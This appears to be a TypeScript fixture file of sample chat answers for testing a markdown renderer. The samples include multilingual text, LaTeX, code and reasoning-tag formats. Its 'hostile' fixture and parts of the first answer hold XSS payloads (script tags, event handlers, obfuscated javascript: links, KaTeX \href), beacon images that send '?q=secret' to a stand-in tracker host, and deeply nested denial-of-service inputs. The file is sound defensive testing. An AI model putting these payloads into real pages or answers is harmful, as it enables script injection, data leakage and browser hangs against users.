/** Answers that hold everything a model writes, the hostile included. */
export const ANSWER = `Reversing a list takes **one line** in Python, and a few more if the *original* must stay as it is.

1. Slice it backwards: \`items[::-1]\` makes a new list.
2. Or reverse it where it lies.

   The list itself then changes.

3. 你好，世界 is reversed by characters: 界世，好你.

\`\`\`python
def reversed_copy(items: list[int]) -> list[int]:
    """Return a new list with the items in the opposite order, leaving the original alone."""

    return items[::-1]
\`\`\`

| way | new list | time |
| --- | :-: | --: |
| slice | yes | O(n) |
| reverse() | no | O(n) |

> Both read every item once.

See [the manual](https://docs.python.org/3/) and ![a picture](https://tracker.example/pixel.png?q=secret).

<script>window.stolen = true</script><img src="https://tracker.example/html.png" onerror="window.stolen = true">

[do not click](javascript:window.stolen=true)`;

const PARAGRAPH =
  'The tide turns twice a day, and with it everything that drifts: weed, foam, the small silver fish that move as one and are never led by any of them. ';

const parts = (count: number, first = 1): string =>
  Array.from(
    { length: count },
    (_, n) => `## Part ${first + n}\n\n${PARAGRAPH.repeat(3)}\n\n- one\n- two\n- three`,
  ).join('\n\n');

/** About 6,000 tokens. */
const LONG_ANSWER = parts(40);

const listing = (steps: number): string =>
  Array.from(
    { length: steps },
    (_, n) =>
      `def step_${n}(tides: list[float], depth: int = ${n}) -> float:\n    """The height of tide ${n}."""\n    return sum(tides[:depth]) / max(1, depth)  # mean\n`,
  ).join('\n');

const tableRows = (rows: number): string =>
  Array.from({ length: rows }, (_, n) => `| ${n} | ${n * 7} cm | ${PARAGRAPH.slice(0, 60)} |`).join('\n');

const sections = (prose: number, items: number, steps: number, rows: number): string =>
  [
    parts(prose),
    Array.from({ length: items }, (_, n) => `${n + 1}. ${PARAGRAPH.slice(0, 90)}`).join('\n'),
    `\`\`\`python\n${listing(steps)}\n\`\`\``,
    `| hour | height | what |\n| --- | --: | --- |\n${tableRows(rows)}`,
    '',
  ].join('\n\n');

/** One line without an end, and prose again. */
const HUGE_END = [PARAGRAPH.repeat(30), parts(5, 61), 'The end.'].join('\n\n');

/** About 20,000 tokens: prose, a list, a listing and a table that are each long, before that end. */
const HUGE_ANSWER = sections(60, 150, 400, 120) + HUGE_END;

const RICH_ANSWER = `The energy at rest is $E = mc^2$, and \\(\\sqrt{2} \\approx 1.414\\). It costs $5 and $10.

\\[
\\int_{-\\infty}^{\\infty} e^{-x^2}\\,dx
= \\sqrt{\\pi}
\\]

\`\`\`ts
// Greets one fish by name.
export function greet(name: string, times = 2): string {
  const line = \`Hello, \${name}\`;
  return Array.from({ length: times }, () => line).join(' / '); // the join is not short, so that the line is longer than a phone
}
\`\`\`

| tide | height | at |
| --- | --: | :-: |
| high | 4.1 m | 06:12 |
| low | 0.4 m | 12:31 |

- [x] read the table
- [ ] wait for the tide

A broken one: $\\frac{1}{$ stays, and $\\nosuchcommand{x}$ is named. A note stands below[^1], a [link by name][tides] too.

[^1]: The note says **this**.

[tides]: https://tides.example/table
`;

const THINKING = `<think>
The user wants to know about tides. First the moon, then the sun.

So the answer is: twice a day.
</think>

Tides turn **twice** a day.`;

/** What one family writes around its reasoning, the template's own tokens between them. */
const reasoned = (open: string, close: string): string =>
  `${open}\nFirst the moon, then the sun.\n${close}\n\nTides turn **twice** a day.`;

/** As each family marks it (state/reasoning.ts names them); streamed in pieces, every mark is cut somewhere. */
export const REASONED: Readonly<Record<string, string>> = {
  think: reasoned('<think>', '</think>'),
  thinking: reasoned('<thinking>', '</thinking>'),
  seed: reasoned('<seed:think>', '</seed:think>'),
  magistral: reasoned('[THINK]', '[/THINK]'),
  kimi: reasoned('◁think▷', '◁/think▷'),
  command: reasoned('<|START_THINKING|>', '<|END_THINKING|>'),
  gemma: reasoned('<|channel>thought', '<channel|>'),
  harmony:
    '<|channel|>analysis<|message|>First the moon, then the sun.<|end|><|start|>assistant' +
    '<|channel|>commentary<|message|>A look at the table.<|end|><|start|>assistant' +
    '<|channel|>final<|message|>Tides turn **twice** a day.',
};

/** Words that never end, wherever a text can have one. */
const ENDLESS = 'tide'.repeat(200);
const UNBROKEN = `${ENDLESS}

https://tides.example/${ENDLESS}

- **${ENDLESS}**

> \`${ENDLESS}\`

| ${ENDLESS} | b |
| --- | --- |
| c | ${ENDLESS} |

## ${ENDLESS}`;

const HEBREW = `הירח מושך את **הים**, ולכן יש גאות פעמיים ביום.

The moon is the stronger one.

- ראשית הירח
- אחר כך השמש

\`\`\`python
print('tide')
\`\`\``;

const CHINESE_ANSWER = `潮汐每天涨落**两次**，由月球和太阳的引力引起。

1. 月球的引力最强，因此潮汐主要跟随月球。
2. 太阳的引力较弱，但在朔望时会加强潮汐。

\`\`\`python
def 高度(小时: float) -> float:
    return 2.1 * math.cos(小时)  # 单位：米
\`\`\`

公式是 $h = a\\cos(\\omega t)$，其中 $a$ 为振幅。`;

const TRACKER = 'https://tracker.example';

/** Everything that must not run, fetch, or hang the page. */
const HOSTILE_ANSWER = [
  `<script>window.stolen = 1</script>`,
  `<img src="${TRACKER}/1.png" onerror="window.stolen = 2"><svg onload="window.stolen = 3"></svg>`,
  `<iframe src="${TRACKER}/2.html"></iframe><style>@import url(${TRACKER}/3.css)</style><link rel="stylesheet" href="${TRACKER}/4.css">`,
  `![beacon](${TRACKER}/5.png?q=secret) ![by name][beacon] ![data](data:image/svg+xml,<svg onload=alert(1)>)`,
  `[beacon]: ${TRACKER}/6.png`,
  `[run](javascript:window.stolen=4) [run](JaVaScRiPt:window.stolen=5) [run](java&#115;cript:window.stolen=6) [run](vbscript:x) [run](data:text/html,<script>window.stolen=7</script>)`,
  `<javascript:window.stolen=8> [run]( javascript:window.stolen=9)`,
  `$\\href{javascript:window.stolen=10}{run}$ $\\includegraphics{${TRACKER}/7.png}$ $\\htmlClass{x}{y}$ $\\url{${TRACKER}}$`,
  `$\\def\\a{\\a\\a}\\a$ $\\rule{9999em}{9999em}$ $${'{'.repeat(300)}$`,
  `| a | b |\n| - | - |\n| <b onclick="window.stolen=11">x</b> | [run](javascript:window.stolen=12) |`,
  `[^x]: ![note](${TRACKER}/8.png)`,
  `Noted[^x], [^constructor], [^__proto__].`,
  `\`\`\`html\n<img src=${TRACKER}/9.png onerror="window.stolen=13"><script>window.stolen=14</script>\n\`\`\``,
  `\`\`\`"><img/src=x onerror=window.stolen=15>\nx\n\`\`\``,
  `${'> '.repeat(3000)}deep`,
  `${'- '.repeat(1500)}deep`,
  `${'['.repeat(3000)}deep`,
  '*a **b '.repeat(500),
  '![](<'.repeat(600),
  'a'.repeat(1_000_000),
  '<b '.repeat(1000),
  'The safe end.',
  '```\nan unclosed fence <script>window.stolen = 16</script>',
].join('\n\n');

/** Lines that colouring would take seconds for: a word without end, and what a bundler makes. */
const DENSE = [
  `\`\`\`js\nlet a = 1;\n${'looping'.repeat(3000)}\nlet b = 2;\n\`\`\``,
  `\`\`\`json\n${JSON.stringify(Array.from({ length: 400 }, (_, n) => ({ id: n, name: `n${n}` })))}\n\`\`\``,
  '```js\nlet c = 3;\n```',
  'The end.',
].join('\n\n');

/** Short counterparts of the long ones, by what is asked; all of their tokens take their time. */
export const SHORT_ANSWERS: Readonly<Record<string, string>> = {
  'Some parts': parts(10),
  'The end of all': HUGE_END,
  'Some of all': sections(10, 40, 60, 40) + HUGE_END,
  'Lines of usual length': `\`\`\`python\n${listing(200)}\n\`\`\``,
};

/** By what the address asks for with `answer=`. */
export const ANSWERS: Readonly<Record<string, string>> = {
  long: LONG_ANSWER,
  huge: HUGE_ANSWER,
  rich: RICH_ANSWER,
  think: THINKING,
  ...Object.fromEntries(Object.entries(REASONED).map(([name, text]) => [`think-${name}`, text])),
  chinese: CHINESE_ANSWER,
  unbroken: UNBROKEN,
  dense: DENSE,
  hebrew: HEBREW,
  hostile: HOSTILE_ANSWER,
};
